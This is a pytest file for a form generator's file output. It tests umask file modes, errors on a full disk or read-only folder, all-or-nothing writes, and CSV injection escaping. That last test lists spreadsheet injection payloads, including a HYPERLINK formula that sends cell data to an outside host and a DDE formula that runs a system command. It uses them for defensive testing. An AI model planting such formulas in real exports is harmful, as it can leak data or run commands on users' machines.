"""Outputs: the umask's normal mode, clear errors when a write fails, all-or-nothing, CSV safe in spreadsheets."""
from __future__ import annotations

import csv
import errno
import io
import json
import os
import shutil
import stat
from pathlib import Path

import pytest

from conftest import FIXTURES
from generator.errors import InputError
from generator.files import write_atomic, write_many
from test_bad_input import SAVED, run

HOSTILE = FIXTURES / "hostile"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(HOSTILE, root)
    return root


@pytest.fixture
def umask():
    """Set a umask for one test, and put the old one back."""
    old = os.umask(0o022)
    os.umask(old)
    yield os.umask
    os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("mask, expected", [(0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
def test_written_files_get_the_umask_mode(tmp_path, umask, mask, expected):
    umask(mask)
    write_atomic(tmp_path / "new" / "file.pdf", b"%PDF-")
    assert mode(tmp_path / "new" / "file.pdf") == expected  # mkstemp gave 0600 whatever the umask
    write_atomic(tmp_path / "new" / "file.pdf", b"%PDF-1.7")  # replacing a file: the same mode
    assert mode(tmp_path / "new" / "file.pdf") == expected


def test_forms_output_files_are_readable_by_a_web_server(tmp_path, umask):
    """site/forms/: PDFs, zips and manifest, written as a build writes them (no rendering here)."""
    from generator.build import FormsOutput
    umask(0o022)
    FormsOutput([], {"files": []}, {"pdf/a.pdf": b"%PDF-", "casekit-forms-en.zip": b"PK"}).write(tmp_path / "forms")
    for name in ("pdf/a.pdf", "casekit-forms-en.zip", "manifest.json"):
        assert mode(tmp_path / "forms" / name) == 0o644, name


def test_extract_writes_a_table_with_the_umask_mode(hostile, umask, capsys, monkeypatch):
    umask(0o022)
    (hostile / "saved.json").write_text(SAVED, encoding="utf-8")
    status, output = run(hostile, ["extract", "saved.json", "-o", "out/table.csv"], capsys, monkeypatch)
    assert status == 0, output
    assert mode(hostile / "out" / "table.csv") == 0o644


class _FullDisk(io.RawIOBase):
    def writable(self):
        return True

    def write(self, data):
        raise OSError(errno.ENOSPC, "No space left on device")


def test_full_disk_is_a_clear_error_and_leaves_nothing(tmp_path, monkeypatch):
    target = tmp_path / "table.csv"
    target.write_bytes(b"old")
    monkeypatch.setattr("generator.files.os.fdopen", lambda handle, mode: (os.close(handle), _FullDisk())[1])
    with pytest.raises(InputError, match="the disk is full"):
        write_atomic(target, b"new")
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["table.csv"]  # no temporary file left


def test_read_only_folder_is_a_clear_error(tmp_path, monkeypatch):
    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")
    monkeypatch.setattr("generator.files.os.open", refuse)  # chmod does not stop root, who runs CI
    with pytest.raises(InputError, match="read-only"):
        write_atomic(tmp_path / "x.pdf", b"%PDF-")


def test_several_files_together_or_not_at_all(tmp_path):
    """The second target is a folder: the first file is not written either (the manifest case of build)."""
    (tmp_path / "manifest.json").mkdir()
    (tmp_path / "a.pdf").write_bytes(b"old")
    with pytest.raises(InputError, match="folder of this name is in the way"):
        write_many({tmp_path / "a.pdf": b"new", tmp_path / "manifest.json": b"{}"})
    assert (tmp_path / "a.pdf").read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.pdf", "manifest.json"]


FORMULAS = ['=HYPERLINK("http://example.org/?x="&A1,"Open")', "+855 12 345 678", "-1+2", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "=1+1"]  # values are stripped, so a leading tab never reaches a cell


def test_csv_cells_are_never_formulas_and_read_back_unchanged(hostile, capsys, monkeypatch):
    """OWASP's advice for CSV injection: a cell that starts with = + - @ tab or CR gets a leading apostrophe."""
    from generator.data.values import read_rows
    saved = json.loads(SAVED)
    for i, value in enumerate(FORMULAS):
        saved["values"]["notes"] = value
        (hostile / f"saved{i}.json").write_text(json.dumps(saved), encoding="utf-8")
    files = [f"saved{i}.json" for i in range(len(FORMULAS))]
    status, output = run(hostile, ["extract", *files, "-o", "table.csv"], capsys, monkeypatch)
    assert status == 0, output
    text = (hostile / "table.csv").read_text(encoding="utf-8-sig")
    notes = [row["notes"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert notes == ["'" + value for value in FORMULAS]
    assert [row.values["notes"] for row in read_rows(hostile / "table.csv")] == FORMULAS
